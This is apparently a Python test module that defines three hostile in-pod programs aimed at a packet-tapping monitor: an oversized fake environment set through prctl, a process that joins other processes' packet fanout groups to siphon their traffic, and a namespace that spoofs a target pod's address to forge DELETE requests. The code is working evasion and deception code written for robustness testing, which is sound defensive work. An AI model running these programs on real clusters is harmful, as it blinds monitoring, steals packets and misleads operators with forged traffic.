"""Processes of a pod that try to end, to blind or to deceive a tapper.

Each is a program for this interpreter, run in a pod with no more rights than a container has by default. Raises
`Unsupported` if this machine does not let a process do such a thing: then nobody need fear it.
"""

from __future__ import annotations

import shutil
import sys
import sysconfig
from pathlib import Path

from harness.errors import Unsupported
from harness.mesh.sidecar import istio_environ
from harness.sandbox.pod import Pod
from harness.sandbox.process import Command, Process
from harness.waiting import wait_until

# Two gigabytes of pages that were never touched become the environment: prctl(2), PR_SET_MM_MAP. It takes no memory and
# no capability.
_GIGANTIC = """
import ctypes, struct, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
size = 2 << 30
start = libc.mmap(None, size, 1, 0x4022, -1, 0)
stat = [int(word) for word in open("/proc/self/stat").read().rpartition(")")[2].split()[1:]]
field = lambda number: stat[number - 4]
code, data, brk = (field(26), field(27)), (field(45), field(46)), field(47)
stack, arguments = field(28), (field(48), field(49))
parts = (*code, *data, brk, brk, stack, *arguments, start, start + size)
prctl_mm_map = struct.pack("=11QQII", *parts, 0, 0, 0xFFFFFFFF)
buffer = ctypes.create_string_buffer(prctl_mm_map)
if libc.prctl(35, 14, buffer, len(prctl_mm_map), 0):
    print("refused: prctl", ctypes.get_errno(), flush=True)
print("done", flush=True)
time.sleep(1000)
"""

# sock_diag(7) lists the fanout groups for everybody (NETLINK_SOCK_DIAG, PACKET_DIAG_FANOUT); packet(7) lets every
# process with CAP_NET_RAW join a group, and so get a share of its packets.
_THIEF = """
import socket, struct
def groups():
    diag = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4)
    diag.settimeout(5)
    diag.send(struct.pack("=IHHII", 36, 20, 0x301, 1, 0) + struct.pack("=BBHIIII", 17, 0, 0, 0, 8, 0, 0))
    while True:
        datagram, at = diag.recv(65536), 0
        while at < len(datagram):
            length, kind = struct.unpack_from("=IH", datagram, at)
            if kind in (2, 3):
                return
            attribute = at + 32
            while attribute + 4 <= at + length:
                size, name = struct.unpack_from("=HH", datagram, attribute)
                if name == 4:
                    yield struct.unpack_from("=I", datagram, attribute + 4)[0]
                attribute += max(size + 3 & ~3, 4)
            at += length + 3 & ~3
try:
    found = list(groups())
except OSError as error:
    print("refused:", error, flush=True)
    found = []
stolen = []
for group in found:
    thief = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    thief.bind(("lo", 3))
    try:
        thief.setsockopt(263, 18, group & 0xFFFFFF)
    except OSError:
        continue
    stolen.append(thief)
print("done, in", len(stolen), "groups", flush=True)
while stolen:
    stolen[0].recv(65536)
socket.socketpair()[0].recv(1)
"""

# In its own user namespace a process can have its own network namespace, and in that any address.
_FORGED = """
import ctypes, fcntl, os, socket, struct, subprocess, sys, threading, time
address, nonce, envoy = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
uid, gid = os.getuid(), os.getgid()
if libc.unshare(0x10000000 | 0x40000000):
    print("refused: unshare", ctypes.get_errno(), flush=True)
    print("done", flush=True)
    time.sleep(1000)
open("/proc/self/setgroups", "w").write("deny")
open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
fcntl.ioctl(control, 0x8914, struct.pack("16sH22x", b"lo", 0x49))  # SIOCSIFFLAGS: up, loopback, running
fcntl.ioctl(control, 0x8916, struct.pack("16sHH4s16x", b"lo:1", 2, 0, socket.inet_aton(address)))  # SIOCSIFADDR
process = subprocess.Popen([envoy, "1000"])
server = socket.create_server((address, 8080))
print("done", flush=True)
while True:
    client = socket.socket()
    client.bind(("127.0.0.6", 0))
    client.connect((address, 8080))
    accepted = server.accept()[0]
    client.sendall(f"DELETE /orders/{nonce} HTTP/1.1\\r\\nHost: shop\\r\\n\\r\\n".encode())
    accepted.recv(1000)
    accepted.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\n\\r\\n")
    client.recv(1000)
    client.close()
    accepted.close()
    time.sleep(0.1)
"""


def gigantic_environment(pod: Pod) -> Process:
    """A process named envoy whose environment has two gigabytes (execve(2) allows six megabytes)."""
    folder = pod.node.run_dir / "gigantic"
    folder.mkdir()
    shutil.copy(Path(sys.executable).resolve(), folder / "envoy")
    library = {"LD_LIBRARY_PATH": str(sysconfig.get_config_var("LIBDIR")), "PYTHONHOME": sys.base_prefix}
    argv = [pod.node.inside(folder / "envoy"), "-S", "-c", _GIGANTIC]
    return _started(pod.spawn(Command(argv, env=library), name="gigantic"))


def fanout_thief(pod: Pod) -> Process:
    """A process with NET_RAW, which containers have by default, in every fanout group of the pod's namespace that it
    can join."""
    argv = [sys.executable, "-I", "-S", "-c", _THIEF]
    return _started(pod.spawn(Command(argv, capabilities={"NET_RAW"}), name="thief"))


def forged_pod(pod: Pod, address: str, nonce: str) -> Process:
    """A namespace that a process made, with a target's address, a process named envoy in it, and ten exchanges a second
    on its `lo`, whose target has the nonce."""
    folder = pod.node.run_dir / "forged"
    folder.mkdir()
    shutil.copy(shutil.which("sleep") or "/bin/sleep", folder / "envoy")
    argv = [sys.executable, "-I", "-S", "-c", _FORGED, address, nonce, pod.node.inside(folder / "envoy")]
    environ = dict(istio_environ(pod)) | {"INSTANCE_IP": address}
    return _started(pod.spawn(Command(argv, env=environ), name="forged"))


def _started(process: Process) -> Process:
    wait_until(lambda: "done" in process.read_log(), "a hostile process to have done it", logs=process.read_log)
    said = process.read_log()
    if "refused:" in said:
        raise Unsupported(f"this kernel does not let a process do what the case is about ({said.strip()})")
    return process
